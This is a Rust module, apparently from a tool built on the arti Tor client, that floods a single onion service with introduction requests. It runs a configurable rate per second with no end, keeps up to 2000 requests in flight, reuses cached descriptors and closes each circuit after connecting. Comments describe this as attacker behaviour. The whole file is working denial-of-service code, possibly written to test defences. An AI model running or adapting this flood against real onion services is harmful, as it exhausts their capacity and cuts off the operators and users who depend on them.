//! Introductions, one after the other at a rate, each on circuits of its own.
//!
//! arti keeps a descriptor for each isolation. An attacker would fetch it once, so what was used is used
//! again, after its circuit was closed.

use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use arti_client_visiting::{IsolationToken, StreamPrefs};
use tokio::sync::Semaphore;
use tokio::time::{interval, timeout, MissedTickBehavior};

use tor_proto::client::stream::ClientStreamCtrl;

use crate::Visitor;

/// Introductions under way at once; more than that are not begun.
const UNDER_WAY: usize = 2000;

/// An attacker waits no longer for one.
const PATIENCE: Duration = Duration::from_secs(20);

/// A flood of one onion service.
pub(crate) struct Flood {
    visitor: Visitor,
    host: String,
    counts: Arc<Counts>,
    /// With a descriptor and without a circuit.
    idle: Arc<Mutex<Vec<IsolationToken>>>,
}

#[derive(Default)]
struct Counts {
    begun: AtomicU64,
    met: AtomicU64,
}

impl Flood {
    pub(crate) fn new(visitor: Visitor, host: String) -> Self {
        Self {
            visitor,
            host,
            counts: Arc::default(),
            idle: Arc::default(),
        }
    }

    /// Makes `rate` introductions a second, for ever.
    pub(crate) async fn run(&self, rate: u32) {
        let room = Arc::new(Semaphore::new(UNDER_WAY));
        let mut due = interval(Duration::from_secs(1) / rate.max(1));
        due.set_missed_tick_behavior(MissedTickBehavior::Burst);
        loop {
            due.tick().await;
            let Ok(permit) = Arc::clone(&room).try_acquire_owned() else {
                continue;
            };
            self.counts.begun.fetch_add(1, Ordering::Relaxed);
            let (visitor, host) = (Arc::clone(&self.visitor), self.host.clone());
            let (counts, idle) = (Arc::clone(&self.counts), Arc::clone(&self.idle));
            tokio::spawn(async move {
                let token = idle.lock().ok().and_then(|mut idle| idle.pop());
                let token = token.unwrap_or_else(IsolationToken::new);
                match timeout(PATIENCE, introduce(&visitor, host, token)).await {
                    // arti goes on with it.
                    Err(_) => return drop(permit),
                    Ok(true) => drop(counts.met.fetch_add(1, Ordering::Relaxed)),
                    Ok(false) => {}
                }
                if let Ok(mut idle) = idle.lock() {
                    idle.push(token);
                }
                drop(permit);
            });
        }
    }
}

/// Whether the service met us. Leaves no circuit.
async fn introduce(visitor: &Visitor, host: String, token: IsolationToken) -> bool {
    let mut preferences = StreamPrefs::new();
    preferences.set_isolation(token);
    let Ok(stream) = visitor.connect_with_prefs((host, 80), &preferences).await else {
        return false;
    };
    if let Some(tunnel) = stream.client_stream_ctrl().and_then(|it| it.tunnel()) {
        tunnel.terminate();
    }
    true
}

impl fmt::Display for Flood {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        let begun = self.counts.begun.load(Ordering::Relaxed);
        let met = self.counts.met.load(Ordering::Relaxed);
        write!(out, "{begun} introductions begun, {met} met")
    }
}
